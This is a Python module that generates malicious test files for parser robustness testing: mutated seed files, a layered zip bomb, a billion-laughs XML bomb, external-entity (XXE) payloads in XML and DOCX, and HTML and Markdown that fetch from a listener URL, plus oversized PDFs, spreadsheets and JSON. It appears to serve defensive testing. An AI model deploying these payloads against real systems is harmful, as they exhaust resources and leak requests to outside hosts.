"""Files made to harm whoever reads them: damaged, swollen, or asking for things from elsewhere."""
# pyright: reportMissingTypeStubs=false, reportUnknownMemberType=false

from __future__ import annotations

import io
import zipfile
from collections.abc import Iterator, Sequence
from pathlib import Path
from random import Random

import xlsxwriter
from fpdf import FPDF

Attack = tuple[str, bytes]
"""Its file name, and its bytes."""

BOMB_LAYERS = 3
BOMB_FILES = 22  # in each layer: 22 * 22 * 22 times a megabyte are 10 GB
MAX_SEED_BYTES = 300_000
DIFFERENT_ROWS = 500  # equal chunks are embedded once: this is about reading, not embedding


def mutants(seeds: Sequence[Attack], number: int) -> Iterator[Attack]:
    """Damaged copies of real files, the same ones each time."""
    random = Random(0)
    small = [seed for seed in seeds if 0 < len(seed[1]) <= MAX_SEED_BYTES]
    for n in range(number):
        name, data = random.choice(small)
        yield f"mutant-{n:03}-{Path(name).name}", _damage(data, random)


def _damage(data: bytes, random: Random) -> bytes:
    kind = random.randrange(5)
    at = random.randrange(len(data))
    if kind == 0:
        return data[: at + 1]
    if kind == 1:
        return data[:at] + bytes(random.randrange(1, 200)) + data[at:]
    if kind == 2:
        return data[:at] + data[at // 2 : at] + data[at:]
    damaged = bytearray(data)
    for _ in range(random.choice((1, 10, 100))):
        damaged[random.randrange(len(damaged))] = random.randrange(256)
    return bytes(damaged)


def generated(listener: str) -> dict[str, bytes]:
    """One of each kind; those that fetch things would fetch them from `listener`, a URL."""
    outside_xml = (
        f'<?xml version="1.0"?><!DOCTYPE d SYSTEM "{listener}/dtd" [<!ENTITY x SYSTEM'
        f' "{listener}/entity">]><d><title>Outside</title><p>&x; and text</p></d>'
    )
    outside_html = (
        f'<html><head><link rel="stylesheet" href="{listener}/css"></head><body><h1>Outside</h1>'
        f'<img src="{listener}/img"><iframe src="{listener}/frame"></iframe><p>Text.</p></body>'
    )
    return {
        "bomb.zip": _bomb(),
        "laughs.xml": _laughs(),
        "outside.docx": _docx(f'<!DOCTYPE d [<!ENTITY x SYSTEM "{listener}/docx">]>', "&x;"),
        "outside.xml": outside_xml.encode(),
        "outside.html": outside_html.encode(),
        "outside.md": f"# Outside\n\n![picture]({listener}/picture) and text\n".encode(),
        "million-cells.xlsx": _sheet(rows=50_000, columns=20),
        "2000-pages.pdf": _pdf(pages=2000, padding=0),
        "40-megabytes.pdf": _pdf(pages=400, padding=40_000_000),
        "brackets.json": b"[" * 5_000_000,
        "one-word.txt": b"x" * 5_000_000,
    }


def _bomb() -> bytes:
    """Some kilobytes that unpack to 10 GB, in layers that each look harmless."""
    data = bytes(1_000_000)
    for layer in range(BOMB_LAYERS):
        file = io.BytesIO()
        with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
            for number in range(BOMB_FILES):
                archive.writestr(f"{number}.{'zip' if layer else 'txt'}", data)
        data = file.getvalue()
    return data


def _laughs() -> bytes:
    entities = '<!ENTITY l0 "ha">' + "".join(
        f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 12)
    )
    return f'<?xml version="1.0"?><!DOCTYPE d [{entities}]><d><p>&l11;</p></d>'.encode()


def _docx(doctype: str, text: str) -> bytes:
    word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    package = "http://schemas.openxmlformats.org/package/2006"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    body = f"<w:p><w:r><w:t>{text} and text</w:t></w:r></w:p>"
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    members = {
        "[Content_Types].xml": f'<Types xmlns="{package}/content-types"><Default Extension="rels"'
        f' ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Override'
        f' PartName="/word/document.xml" ContentType="{kind}"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="r"'
        f' Type="{office}/officeDocument" Target="word/document.xml"/></Relationships>',
        "word/document.xml": f'<?xml version="1.0"?>{doctype}<w:document xmlns:w="{word}"><w:body>'
        f"{body}</w:body></w:document>",
    }
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return file.getvalue()


def _sheet(*, rows: int, columns: int) -> bytes:
    file = io.BytesIO()
    with xlsxwriter.Workbook(file, {"constant_memory": True}) as book:
        sheet = book.add_worksheet("Numbers")
        for row in range(rows):
            for column in range(columns):
                sheet.write_number(row, column, row % DIFFERENT_ROWS * column)
    return file.getvalue()


def _pdf(*, pages: int, padding: int) -> bytes:
    """Pages of text; the padding is an attachment that nobody reads."""
    writer = FPDF()
    writer.set_font("helvetica", size=11)
    for page in range(pages):
        writer.add_page()
        writer.multi_cell(0, 6, f"Page {page + 1}. " + "The lid closes the box very well. " * 30)
    if padding:
        writer.embed_file(basename="noise.bin", bytes=Random(0).randbytes(padding), compress=False)
    return bytes(writer.output())
